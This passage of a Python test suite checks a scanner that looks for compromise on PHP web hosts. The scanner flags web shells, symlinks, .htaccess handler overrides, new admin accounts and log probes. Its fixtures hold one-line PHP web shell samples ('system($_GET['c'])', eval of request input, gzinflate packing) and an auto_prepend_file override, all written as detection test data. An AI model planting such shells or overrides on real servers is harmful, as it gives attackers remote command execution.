    assert cut.startswith("var/: Not everything was checked: the time for it (10 s) was over") and cut in found.gaps


class Slow:
    """A listing whose entries answer by another function."""

    def __init__(self, listing, is_dir):
        self.listing, self.is_dir = listing, is_dir

    def __enter__(self):
        return self

    def __exit__(self, *_error):
        self.listing.close()

    def __iter__(self):
        for entry in self.listing:
            answers = mock.Mock(wraps=entry, path=entry.path)
            answers.name = entry.name
            answers.is_dir = partial(self.is_dir, entry)
            yield answers


@pytest.mark.parametrize(("name", "there"), [("linked.php", True), ("later.phtml", False), (".user.ini", True)])
def test_a_link_in_the_program_that_runs_data(host, name, there):
    if there:
        host.file("var/upload/k.txt", "<?php echo 1;", days=100)
    (host.root / "public/main").mkdir(parents=True, exist_ok=True)
    (host.root / "public/main" / name).symlink_to("../../var/upload/k.txt")
    (sign,) = trace(host.inspect()).signs
    assert sign == f"a link that runs what the web user can change: public/main/{name}"


def test_a_shell_behind_a_link_in_the_program_is_read(host):
    host.file("vendor/x.inc", "<?php system($_GET['c']);", days=100)
    (host.root / "public/main").mkdir(parents=True, exist_ok=True)
    (host.root / "public/main/linked.php").symlink_to("../../vendor/x.inc")
    (sign,) = trace(host.inspect()).signs
    assert "a suspected web shell: public/main/linked.php" in sign


@pytest.mark.parametrize("where", ["campus/var/cache/x", "elsewhere"])
def test_php_behind_a_link_to_a_directory(host, tmp_path, where):
    directory = (host.root / "var/cache/x") if "cache" in where else tmp_path / where
    directory.mkdir(parents=True)
    (directory / "a.php").write_text("<?php echo 1;")
    os.chown(directory / "a.php", WEB, WEB)
    (directory / "essay.txt").write_text("")
    (host.root / "public/main").mkdir(parents=True, exist_ok=True)
    (host.root / "public/main/x").symlink_to(directory)
    (sign,) = trace(host.inspect()).signs
    assert sign == "PHP of the web user's behind a link: public/main/x/a.php"


def test_links_of_the_administrators_are_no_signs(host, tmp_path):
    """Upload directories on another disk, program in another place, assets of a bundle."""
    (tmp_path / "data").mkdir()
    (tmp_path / "data/essay.txt").write_text("x")
    (tmp_path / "shared/plugin").mkdir(parents=True)
    (tmp_path / "shared/plugin/a.php").write_text("<?php echo 1;")
    host.file("vendor/bundle/public/a.js", "")
    host.file("vendor/bundle/public/a.php", "<?php echo 1;", days=100)
    (host.root / "public/bundles").mkdir(parents=True)
    for link, target in (
        ("public/courses", tmp_path / "data"),
        ("public/plugin2", tmp_path / "shared/plugin"),
        ("public/bundles/x", "../../vendor/bundle/public"),
    ):
        (host.root / link).symlink_to(target)
    assert trace(host.inspect()).signs == []


@pytest.mark.parametrize(
    ("text", "shell"),
    [
        (b"<?php // weevely", True),
        (b"<?php eval(gzinflate('x'));", True),
        (b"<?php system($_GET['c']);", True),
        (b"<?php $a = 1; " + b"/* */" * 50 + b"echo $_GET['c'];", False),
        (b"$_GET['c']", False),
        (b"system(" + b" " * 100 + b"$_GET['c'])", False),  # too far before the data
        (b"<?php echo 1;", False),
    ],
)
def test_a_shell_is_known_by_a_name_its_packing_or_what_it_runs(text, shell):
    assert compromise._is_shell(text) is shell


@pytest.mark.parametrize(
    ("below", "text", "changes"),
    [
        ("public/.htaccess", "AddHandler application/x-httpd-php84 .php", False),  # which version, as hosters do it
        ("public/.htaccess", "php_value auto_prepend_file /tmp/x", True),
        ("public/main/.htaccess", "AddHandler application/x-httpd-php84 .gif", True),
        ("public/main/.htaccess", "SetHandler none", False),
        ("public/main/.htaccess", "#" * 16380 + "\nSetHandler php", False),  # so much is read
        ("public/main/.htaccess", "#" * 16300 + "\nSetHandler php", True),
    ],
)
def test_a_file_that_changes_how_a_directory_is_run(host, below, text, changes):
    path = host.file(below, text)
    assert compromise._changes_how_it_runs(str(path), below, "www-data") is changes


@pytest.mark.parametrize(("before", "steers"), [(16300, True), (16380, False)])
def test_of_a_file_that_steers_so_much_is_read(host, before, steers):
    path = host.file("var/x/.htaccess", "#" * before + "\nSetHandler php")
    assert compromise._steers(str(path), "www-data") is steers


def test_administrators_are_pupils_or_late_but_the_first(host):
    rows = [("admin", "1", "1"), ("pupil", "5", "1"), ("old", "1", "0"), ("new", "1", "1"), (None, "1", "1")]
    host.admins = [dict(zip(("username", "status", "late"), row)) for row in rows]
    host.accounts = {"confirmation_token": [{"name": "a"}, {"name": None}]}
    found = Trace()
    compromise._accounts(host.inspect(), found)
    assert found.signs == [
        "pupils with an administrator's rights: pupil",
        "administrators made in the last 30 days: , new",
        "open password resets of administrators, asked for in the last 30 days: , a",
    ]
    assert found.seen == ["5 administrators"]


@pytest.mark.parametrize(
    ("days", "code", "reported"),
    [(1.9, True, False), (2.1, True, True), (9.0, False, False), (None, True, False)],
)
def test_a_migration_within_two_days_belongs_to_the_update(host, days, code, reported):
    if code:
        host.file("version.php", "<?php return [];")
    if days is not None:
        log = host.file("var/log/migration-to-2.0.log", "done")
        os.utime(log, (time.time() + days * 86400,) * 2)
    found = Trace()
    compromise._migrated(host.inspect(), found)
    assert bool(found.signs) is reported


@pytest.mark.parametrize(
    ("path", "hours", "text", "sign"),
    [
        ("public/news.php", 0.9, "<?php echo 1;", ""),
        ("public/news.php", 1.1, "<?php echo 1;", "newer than the release and no part of it: public/news.php"),
        ("public/check.php", 9, "<?php echo 1;", ""),  # part of the release
        ("src/news.php", 9, "<?php echo 1;", ""),
        ("src/Late.php", 9, "<?php $x = file_get_contents('php://input'); eval($x);", "web shell: src/Late.php"),
        ("src/Late.php", 9, "<?php $x = $_GET['x']; eval($x);", "web shell: src/Late.php"),
        ("src/Late.php", 0.9, "<?php $x = $_GET['x']; eval($x);", ""),
        ("src/Late.php", 9, "<?php eval($x);", ""),
        ("src/Late.php", 9, "<?php $x = $_GET['x'];", ""),
    ],
)
def test_what_came_later_goes_by_when_nearly_all_was_written(host, path, hours, text, sign):
    written = (host.root / "src/Kernel.php").stat().st_mtime
    os.utime(host.file(path, text), (written + hours * 3600,) * 2)
    signs = trace(host.inspect()).signs
    assert [sign in one for one in signs] == [True] * bool(sign)


@pytest.mark.parametrize(
    ("path", "misplaced"),
    [
        ("public/img/x.php", True),
        ("public/img/deep/x.php", True),
        ("public/main/img/x.php", False),
        ("public/img.php", False),
        ("src/img/x.php", False),
    ],
)
def test_php_is_misplaced_below_a_directory_of_assets(host, path, misplaced):
    host.file(path, "<?php echo 1;", days=100)
    assert any(sign.startswith("PHP among assets") for sign in trace(host.inspect()).signs) is misplaced


def test_what_was_searched_is_counted(host):
    host.file("var/upload/a", "")
    host.file("var/upload/b", "")
    seen = trace(host.inspect()).seen
    assert "2 files in var/" in seen and "42 PHP files below public/ and src/" in seen
    assert {"the environment files", "its processes", "what root runs", "settings"} <= {*seen}
    assert f"0.0 MB of {host.log}" in seen
    host.log.write_bytes(b"x" * 1_960_000 + b"\n")
    assert f"2.0 MB of {host.log}" in trace(host.inspect()).seen


def test_the_newest_log_is_read_first_and_what_is_too_much_is_left_out(host, monkeypatch):
    older, line = host.log.with_name(f"{host.log.name}.1"), '192.0.2.1 - - [x] "GET {} HTTP/1.1" 200 \n'
    older.write_text(line.format("/.env"))
    os.utime(older, (time.time() - 86400,) * 2)
    host.log.write_text(line.format("/dump.sql"))
    size = host.log.stat().st_size
    monkeypatch.setattr(compromise, "_LOG_BYTES", size)
    assert [sign.split(" answered")[0] for sign in trace(host.inspect()).signs] == ["a database dump"]
    monkeypatch.setattr(compromise, "_LOG_BYTES", size + 1000)
    assert [sign.split(" answered")[0] for sign in trace(host.inspect()).signs] == [
        "a database dump",
        "the environment file",
    ]


def test_a_log_that_cannot_be_read_is_not_among_what_was_read(host, monkeypatch):
    def damaged(_path, *_more):
        raise OSError(5, "Input/output error")

    monkeypatch.setattr(compromise, "pieces", damaged)
    found = trace(host.inspect())
    assert found.gaps == [f"{host.log} could not be read: Input/output error", "no access log could be read"]


def test_what_answered_the_installer_is_counted(host):
    for _each in range(2):
        request('"POST /main/install/index.php HTTP/1.1"')(host)
    (sign,) = trace(host.inspect()).signs
    assert sign.startswith("the installer, after the installation answered a visitor 2 times, for example POST /main/")
